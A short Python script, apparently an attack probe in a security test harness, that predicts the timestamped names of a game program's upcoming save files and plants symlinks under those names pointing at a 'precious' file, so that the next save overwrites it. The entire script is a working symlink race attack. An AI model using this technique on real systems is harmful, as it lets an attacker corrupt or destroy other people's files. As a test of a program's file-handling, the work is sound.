# Plants links to a precious file under the names that the next saved games will have.
import contextlib
import itertools
from datetime import UTC, datetime, timedelta
from pathlib import Path

from attack import attempt, play


def attack(hints: dict) -> None:
    def plant() -> None:
        now = datetime.now(UTC)
        for second, names, number in itertools.product(range(6), ("guest-host", "host-guest"), range(1, 4)):
            when = (now + timedelta(seconds=second)).strftime("%Y%m%d-%H%M%S")
            with contextlib.suppress(FileExistsError):
                Path(hints["games"], f"{when}-count_up-{names}-{number}.jsonl").symlink_to(hints["precious"])

    attempt("plant", plant)


play(attack)
